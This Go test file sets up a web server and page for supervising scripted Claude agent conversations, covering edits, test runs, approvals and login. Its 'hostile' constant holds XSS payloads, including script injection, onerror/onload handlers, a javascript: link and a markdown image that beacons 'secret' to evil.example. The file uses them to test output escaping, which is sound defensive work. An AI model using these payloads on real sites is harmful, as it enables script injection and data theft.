package page_test

import (
	"context"
	"encoding/json"
	"errors"
	"io/fs"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/claude-agent-go/claude"
	"github.com/claude-agent-go/claude/approval"
	"github.com/claude-agent-go/claude/claudetest"
	"github.com/claude-agent-go/claude/fleet"
	"github.com/claude-agent-go/claude/history"
	"github.com/claude-agent-go/claude/hook"
	"github.com/claude-agent-go/claude/host"
	"github.com/claude-agent-go/claude/permission"
	"github.com/claude-agent-go/claude/serve"
	"github.com/claude-agent-go/claude/serve/api"
	"github.com/claude-agent-go/claude/serve/page"
	"github.com/claude-agent-go/claude/store"
)

// rig is a server with the page, over a scripted CLI.
type rig struct {
	db      store.Fleet
	t       *testing.T
	dir     string
	config  string // the CLI's configuration directory
	fleet   *fleet.Fleet
	server  *serve.Server
	presets []serve.Preset
	http    *httptest.Server
	hold    chan struct{} // the model writes, but does not finish, until it is closed
	// front stands between the browser and the server. It reports whether it has
	// answered. Nil: it lets everything through.
	front atomic.Pointer[func(http.ResponseWriter, *http.Request) bool]
	// folder returns the patch of every conversation's folder. Nil: there are no folders.
	folder atomic.Pointer[func() ([]byte, error)]
	// push reaches the push service. Nil: there is none.
	push atomic.Pointer[http.Client]
}

// RoundTrip sends a notice to the push service.
func (r *rig) RoundTrip(req *http.Request) (*http.Response, error) {
	if c := r.push.Load(); c != nil {
		return c.Transport.RoundTrip(req)
	}
	return nil, errors.New("there is no push service")
}

const before = `package shop

// Total returns the sum of prices, in cents.
func Total(prices []float64) int {
	sum := 0.0
	for _, p := range prices {
		sum += p
	}
	return int(sum * 100)
}
`

// The edit that the scripted model makes.
const oldLine, newLine = "	return int(sum * 100)", "	return int(math.Round(sum * 100))"

// newRig starts a server, whose model answers with reply.
func newRig(t *testing.T, change ...func(*fleet.Options)) *rig {
	t.Helper()
	home, err := os.MkdirTemp("", "w") // short, because pictures show it
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(home) })
	r := &rig{t: t, dir: filepath.Join(home, "shop-api"), config: t.TempDir(), hold: make(chan struct{})}
	if err := os.Mkdir(r.dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(r.dir, "price.go"), []byte(before), 0o600); err != nil {
		t.Fatal(err)
	}
	cli := claudetest.NewCLI(&claudetest.Script{Model: r.reply, Tools: map[string]host.RunFunc{
		"Edit": r.edit,
		"Bash": func(_ context.Context, input json.RawMessage) (host.ToolOutput, error) {
			switch {
			case strings.Contains(string(input), "huge"):
				return host.TextOutput(hostile + strings.Repeat("x", 10<<20)), nil
			case strings.Contains(string(input), "hostile"):
				return host.TextOutput(hostile + strings.Repeat("x", 100<<10)), nil
			}
			return host.TextOutput("ok  \tshop\t0.31s\n"), nil
		},
	}})
	db := store.Memory()
	r.db = db
	presets := []serve.Preset{{
		Name: "shop-api", Description: "The shop's Go service", Roots: []string{r.dir}, Model: "claude-sonnet-4-5",
		Models: []string{"claude-sonnet-4-5", "claude-opus-4-5"}, Mode: permission.ModeDefault, Modes: []permission.Mode{permission.ModeDefault, permission.ModePlan},
		Options: &claude.Options{Transport: cli, AllowedTools: []string{"Bash", "Edit"}, Env: []string{"HOME=" + t.TempDir()}, Logger: slog.New(slog.DiscardHandler), PartialMessages: true, FileCheckpointing: true},
	}, {Name: "docs", Description: "The handbook", Roots: []string{home}, Models: []string{"opus", "sonnet"}, Modes: []permission.Mode{permission.ModePlan, permission.ModeAcceptEdits}, Options: &claude.Options{Transport: cli, Logger: slog.New(slog.DiscardHandler)}}}
	r.presets = presets
	sessions, err := serve.Sessions(db, "p", presets, nil)
	if err != nil {
		t.Fatal(err)
	}
	o := fleet.Options{
		Store: db, Project: "p", Journal: t.TempDir(), Logger: slog.New(slog.DiscardHandler), Session: sessions,
		Gate: &approval.Options{Patience: time.Hour, Needs: needs}, Poll: time.Second,
	}
	for _, f := range change {
		f(&o)
	}
	if r.fleet, err = fleet.Open(t.Context(), o); err != nil {
		t.Fatal(err)
	}
	if r.server, err = serve.New(r.fleet, serve.Options{Records: db, Project: "p", Presets: presets, Page: page.New, FolderPatch: r.folderPatch, History: history.Disk(r.config), Push: &serve.Push{Contact: "mailto:ops@example.com", Private: true, Client: &http.Client{Transport: r}}, Logger: slog.New(slog.DiscardHandler)}); err != nil {
		t.Fatal(err)
	}
	r.http = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if front := r.front.Load(); front == nil || !(*front)(w, req) {
			r.server.ServeHTTP(w, req)
		}
	}))
	t.Cleanup(func() {
		_ = r.server.Close()
		r.http.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		_ = r.fleet.Close(ctx)
	})
	return r
}

// folderPatch is the patch of the conversations' folders, which they have only in a test that
// has set it.
func (r *rig) folderPatch(context.Context, string) ([]byte, error) {
	if f := r.folder.Load(); f != nil {
		return (*f)()
	}
	return nil, fs.ErrNotExist
}

// needs asks about everything but tests.
func needs(_ context.Context, in *hook.PreToolUseInput) (string, bool) {
	if strings.Contains(string(in.ToolInput), "go test") || strings.Contains(string(in.ToolInput), "hostile") {
		return "", false
	}
	return "no rule of the preset allows it", true
}

// edit is the tool Edit, with the report that the CLI gives.
func (r *rig) edit(_ context.Context, _ json.RawMessage) (host.ToolOutput, error) {
	path := filepath.Join(r.dir, "price.go")
	after := strings.Replace(before, oldLine, newLine, 1)
	if err := os.WriteFile(path, []byte(after), 0o600); err != nil {
		return host.ToolOutput{}, err
	}
	out := host.TextOutput("The file was edited.")
	out.Result = json.RawMessage(`{"structuredPatch":[{"oldStart":8,"oldLines":3,"newStart":8,"newLines":3,"lines":[" \t}","-\treturn int(sum * 100)","+\treturn int(math.Round(sum * 100))"," }"]}]}`)
	return out, nil
}

// explained has most of what Markdown has.
const explained = "## Rounding\n\nThe cast **truncates**, so `0.29` becomes *28* cents:\n\n```go\nreturn int(sum * 100) // <- here\n```\n\n" +
	"| amount | now |\n|---|--:|\n| 0.29 | 28 |\n| 1.005 | 100 |\n\n1. Use `math.Round`.\n2. Add a test:\n   - for cents\n   - for halves\n\n> See [the blog](https://go.dev/blog/constants).\n\nThat is all."

// reply is the model.
func (r *rig) reply(c *claudetest.ModelCall) claudetest.Reply {
	cost := claudetest.ReplyUsage{InputTokens: 4200, CacheReadInputTokens: 77_800, OutputTokens: 380}
	say := func(text string) claudetest.Reply { return claudetest.Say(text).Usage(cost) }
	n := len(c.ToolResults)
	call := func(id, name string, input any) claudetest.Reply {
		return claudetest.UseTools(claudetest.ScriptedCall{ID: "toolu_" + id, Name: name, Input: input}).Usage(cost)
	}
	switch {
	case strings.HasPrefix(c.Prompt, "slow"):
		return say("The answer comes piece by piece, and is long enough to be seen while it is written.").Chunks(8, time.Millisecond).Hold(r.hold)
	case strings.HasPrefix(c.Prompt, "Explain"):
		return say(explained).Chunks(8, time.Millisecond).Hold(r.hold)
	case strings.HasPrefix(c.Prompt, "Test") && n == 0: // thoughts, words and a call, piece by piece
		return claudetest.Think("The tests will tell, so they come first.", "I'll run the tests first, to see **which amount** is off.").Usage(cost).With(call("test", "Bash", map[string]string{"command": "go test ./..."})).Chunks(8, time.Millisecond).Hold(r.hold)
	case strings.HasPrefix(c.Prompt, "Test"):
		return say("All of them pass, as they did before.").Chunks(8, time.Millisecond)
	case strings.HasPrefix(c.Prompt, "hostile") && n == 0:
		size, _, _ := strings.Cut(strings.TrimPrefix(c.Prompt, "hostile "), " ")
		return say(hostile).With(call("hostile", "Bash", map[string]string{"command": "echo hostile " + size + hostile}))
	case strings.HasPrefix(c.Prompt, "Which"):
		if n > 0 {
			return say("Good, Postgres it is.")
		}
		return call("ask", "AskUserQuestion", map[string]any{"questions": []any{map[string]any{"question": "Which database should the tests use?", "header": "Database", "multiSelect": false,
			"options": []any{map[string]any{"label": "Postgres", "description": "as in production"}, map[string]any{"label": "SQLite", "description": "faster to start"}}}}})
	case strings.HasPrefix(c.Prompt, "Clean"):
		if n > 0 {
			return say("The build directory is gone.")
		}
		return call("rm", "Bash", map[string]string{"command": "rm -rf build && make all", "description": "Clean build"})
	case strings.HasPrefix(c.Prompt, "Build") && n == 0: // the tool of the one above, with less input
		return call("make", "Bash", map[string]string{"command": "make all"})
	case strings.HasPrefix(c.Prompt, "Fix"):
		switch {
		case n == 0:
			return claudetest.Think("The cast truncates.", "I'll run the tests first, to see **which amount** is off.").Usage(cost).With(call("test", "Bash", map[string]string{"command": "go test ./..."}))
		case strings.HasPrefix(c.ToolResults[n-1].Text, "ok"):
			return say("`Total` truncates: 0.29 becomes 28 cents. It should round:").With(call("edit", "Edit", map[string]string{"file_path": filepath.Join(r.dir, "price.go"), "old_string": oldLine, "new_string": newLine}))
		}
		return say("Done. `Total` rounds now, and the tests pass:\n\n| amount | before | now |\n|---|--:|--:|\n| 0.29 | 28 | 29 |\n| 1.005 | 100 | 101 |\n\nThe reason is in [the Go blog](https://go.dev/blog/constants).")
	}
	return say("You said: " + c.Prompt)
}

// begin begins a conversation and returns its path.
func (r *rig) begin(preset, prompt string) string {
	r.t.Helper()
	c, err := r.server.Service().Create(r.t.Context(), ada, api.NewConversation{Preset: preset, Content: api.Text(prompt), Shared: true})
	if err != nil {
		r.t.Fatal(err)
	}
	return "/c/" + c.ID
}

var ada = api.User{Name: "ada", Role: api.RoleAdmin}

// link is a link that logs in.
func (r *rig) link(u api.User) string {
	r.t.Helper()
	link, err := r.server.LoginLink(r.t.Context(), r.http.URL, u)
	if err != nil {
		r.t.Fatal(err)
	}
	return link
}

// client is a browser without a script.
func (r *rig) client(u api.User) *http.Client {
	r.t.Helper()
	token, err := r.server.Service().IssueLogin(r.t.Context(), u)
	if err != nil {
		r.t.Fatal(err)
	}
	jar := newJar(r.t)
	c := &http.Client{Jar: jar}
	reply, err := c.PostForm(r.http.URL+"/login", map[string][]string{"token": {token}, "to": {"/"}})
	if err != nil {
		r.t.Fatal(err)
	}
	reply.Body.Close()
	if reply.StatusCode != http.StatusOK || reply.Request.URL.Path != "/" {
		r.t.Fatalf("the login ends with %d at %s", reply.StatusCode, reply.Request.URL)
	}
	return c
}

// pending waits for approvals of a tool and returns them.
func (r *rig) pending(n int) []api.Approval {
	r.t.Helper()
	for range r.fleet.Approvals().Watch(r.t.Context(), approval.Filter{}) {
		list, err := r.server.Service().Approvals(r.t.Context(), ada, api.ApprovalQuery{State: api.ApprovalPending})
		if err != nil {
			r.t.Fatal(err)
		}
		if len(list.Items) >= n {
			return list.Items
		}
	}
	r.t.Fatal("the approvals do not come")
	return nil
}

// hostile is text that acts wherever it is not taken as text.
const hostile = `</script></style></pre><script>window.pwned=1</script><img src=https://evil.example/x onerror="window.pwned=1"><svg/onload=window.pwned=1>"'` + "\x1b[31m\u202e ![b](https://evil.example/?q=secret) [a](javascript:window.pwned=1) "
